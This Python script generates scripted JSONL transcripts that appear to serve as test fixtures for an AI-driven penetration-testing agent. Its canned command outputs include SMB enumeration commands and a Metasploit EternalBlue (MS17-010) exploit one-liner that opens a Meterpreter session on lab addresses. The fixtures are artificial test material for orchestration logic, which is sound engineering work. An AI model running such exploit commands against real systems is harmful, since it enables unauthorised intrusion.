#!/usr/bin/env python3
"""Regenerates the scripted-model transcripts under assets/transcripts/.

Each JSONL line is {"role", "ordinal", "response"[, "guard", "delay_ms"]};
the response may be an inline JSON object. Ordinals count per role.
"""
import json
import pathlib

OUT = pathlib.Path(__file__).resolve().parent.parent / "assets" / "transcripts"

RHOST = "10.10.10.4"
LHOST = "10.10.14.22"
EXPLOIT_CMD = (
    "msfconsole -q -x 'use exploit/windows/smb/ms17_010_eternalblue; "
    f"set RHOST {RHOST}; set RPORT 445; set LHOST {LHOST}; exploit'"
)
EXPLOIT_TASK = {
    "title": "Exploit SMBv1 Vulnerability MS17-010",
    "detail": (
        f"Attempt to exploit the identified MS17-010 vulnerability on port 445 of {RHOST} "
        f"using Metasploit. Set RHOST to {RHOST}, RPORT to 445, and LHOST to {LHOST}."
    ),
}
METERPRETER_SUMMARY = (
    f"Port 445 on {RHOST} is vulnerable to MS17-010 and a Meterpreter session was "
    "established."
)


def entry(role, ordinal, response, guard=None, delay_ms=None):
    e = {"role": role, "ordinal": ordinal, "response": response}
    if guard is not None:
        e["guard"] = guard
    if delay_ms is not None:
        e["delay_ms"] = delay_ms
    return e


def write(name, entries):
    path = OUT / name
    with path.open("w") as f:
        for e in entries:
            f.write(json.dumps(e) + "\n")
    print(f"wrote {path} ({len(entries)} entries)")


def with_success_cases():
    scan_task = {
        "title": "Scan target ports and services",
        "detail": (
            f"Run a TCP service scan against {RHOST} including SMB vulnerability "
            "scripts to find exposed attack surface."
        ),
    }
    analyze = {
        "Thought process (Step1)": (
            "First, check whether a success-case task tree exists. The provided data "
            "contains a success-case task tree, so proceed to the next step."
        ),
        "Thought process (Step2)": (
            "Find a task in the success-case task tree similar to the most recent executed "
            "task. In this case, the latest task involves port 445, and the success-case "
            "task tree also contains detailed information about port 445. Based on these, "
            "generate new tasks."
        ),
        "newTasks": [
            {
                "title": "Exploit SMBv1 Vulnerability MS17-010",
                "detail": EXPLOIT_TASK["detail"],
                "origin": {
                    "reason": (
                        "The previous check confirmed the presence of MS17-010 "
                        "vulnerability on port 445, enabling an exploit attempt."
                    )
                },
            },
            {
                "title": "Verify System Access",
                "detail": (
                    f"After exploiting the SMBv1 vulnerability, verify access to {RHOST} "
                    "by checking for a shell or other indicators of successful "
                    "exploitation."
                ),
                "origin": {
                    "reason": (
                        "Verification is necessary to ensure that the exploit "
                        "successfully provided access to the target system."
                    )
                },
            },
        ],
    }
    return [
        entry("PlannerExpand", 1, {"newTasks": [scan_task]}),
        entry(
            "CommandGen", 1,
            {
                "command": f"nmap -p 445 -vv -Pn --script=smb-vuln-ms17-010.nse {RHOST}",
                "rationale": "Probe the SMB service for known RCE vulnerabilities.",
            },
        ),
        entry("LogClassify", 1, {"exit_class": "SUCCESS"}),
        entry(
            "LogSummarize", 1,
            {
                "summary": (
                    f"TCP port 445 on {RHOST} is open and vulnerable to MS08-067 and "
                    "MS17-010 (CVE-2017-0143)."
                )
            },
        ),
        entry(
            "SuccessQueryGen", 1,
            {"query": "Metasploit SMB exploit port 445 empty credentials"},
        ),
        entry("SuccessCaseAnalyze", 1, analyze),
        entry("PlannerExpand", 2, {"newTasks": []}),
        entry(
            "CommandGen", 2,
            {
                "command": EXPLOIT_CMD,
                "rationale": "The success case exploited the same vulnerability class.",
            },
            guard="ms17_010|MS17-010",
        ),
        entry("LogSummarize", 2, {"summary": METERPRETER_SUMMARY}),
    ]


def without_success_cases():
    steps = [
        ("Scan target ports and services",
         f"Run a full TCP service scan against {RHOST}.",
         f"nmap -p- -sV -Pn {RHOST}",
         f"Ports 135, 139 and 445 are open on {RHOST}; the host looks like Windows XP."),
        ("Run SMB vulnerability scripts",
         f"Check port 445 on {RHOST} for known SMB vulnerabilities.",
         f"nmap -p 445 -vv -Pn --script=smb-vuln-ms17-010.nse {RHOST}",
         f"Port 445 on {RHOST} is vulnerable to MS17-010 (CVE-2017-0143)."),
        ("List SMB shares anonymously",
         f"Attempt an anonymous share listing on {RHOST}.",
         f"smbclient -L \\\\{RHOST} -N",
         "Anonymous login succeeded; IPC$, ADMIN$ and C$ shares are exposed."),
        ("Enumerate users and OS over SMB",
         f"Run enum4linux against {RHOST} to collect users and OS details.",
         f"enum4linux -a {RHOST}",
         "Null sessions are allowed and the host reports Windows 5.1 (LEGACY)."),
        ("Query MSRPC over a null session",
         f"Use rpcclient with a null session against {RHOST}.",
         f"rpcclient -U '' -N {RHOST} -c srvinfo",
         "The null MSRPC session returned server info for LEGACY."),
        ("Map share permissions",
         f"Check effective share permissions on {RHOST}.",
         f"smbmap -H {RHOST}",
         "Share permissions were readable over the null session."),
        ("Collect NetBIOS names",
         f"Gather NetBIOS name table entries from {RHOST}.",
         f"nbtscan {RHOST}",
         "NetBIOS name LEGACY registered for the target."),
        ("Re-verify open ports quickly",
         f"Cross-check the open port list on {RHOST} with a fast scanner.",
         f"rustscan -a {RHOST} --ulimit 5000",
         "rustscan confirms 135, 139 and 445 open."),
    ]
    entries = []
    for i, (title, detail, command, summary) in enumerate(steps, start=1):
        entries.append(entry("PlannerExpand", i,
                             {"newTasks": [{"title": title, "detail": detail}]}))
        entries.append(entry("CommandGen", i,
                             {"command": command, "rationale": detail}))
        entries.append(entry("LogClassify", i, {"exit_class": "SUCCESS"}))
        entries.append(entry("LogSummarize", i, {"summary": summary}))
    n = len(steps) + 1
    entries.append(entry("PlannerExpand", n, {"newTasks": [EXPLOIT_TASK]}))
    entries.append(entry("CommandGen", n, {
        "command": EXPLOIT_CMD,
        "rationale": "All enumeration points at MS17-010; attempt the exploit.",
    }))
    entries.append(entry("LogSummarize", n, {"summary": METERPRETER_SUMMARY}))
    return entries


def nonleaf_prioritizer():
    return [
        entry("PlannerExpand", 1, {"newTasks": [EXPLOIT_TASK]}),
        entry("Prioritize", 1, {"task_id": "1"}),  # the root: never a runnable leaf
        entry("CommandGen", 1, {"command": EXPLOIT_CMD, "rationale": "direct exploit"}),
        entry("LogSummarize", 1, {"summary": METERPRETER_SUMMARY}),
    ]


def delay_injection():
    return [
        entry("PlannerExpand", 1, {"newTasks": [EXPLOIT_TASK]}, delay_ms=1000),
        entry("CommandGen", 1,
              {"command": EXPLOIT_CMD, "rationale": "direct exploit"}, delay_ms=500),
        entry("LogSummarize", 1, {"summary": METERPRETER_SUMMARY}, delay_ms=250),
    ]


def wall_budget():
    slow_rhost = "10.10.10.9"
    return [
        entry("PlannerExpand", 1, {"newTasks": [{
            "title": "Scan target ports",
            "detail": f"Run a TCP service scan against {slow_rhost}.",
        }]}),
        entry("CommandGen", 1, {"command": f"nmap -p- -sV -Pn {slow_rhost}",
                                "rationale": "initial sweep"}),
        entry("CommandGen", 2, {"command": f"rustscan -a {slow_rhost} --ulimit 5000",
                                "rationale": "faster scanner after the timeout"}),
        entry("CommandGen", 3, {"command": f"rustscan -a {slow_rhost} --ulimit 5000",
                                "no_faster_alternative": True,
                                "rationale": "nothing faster exists"}),
    ]


def main():
    OUT.mkdir(parents=True, exist_ok=True)
    write("with_success_cases.jsonl", with_success_cases())
    write("without_success_cases.jsonl", without_success_cases())
    write("nonleaf_prioritizer.jsonl", nonleaf_prioritizer())
    write("delay_injection.jsonl", delay_injection())
    write("wall_budget.jsonl", wall_budget())


if __name__ == "__main__":
    main()
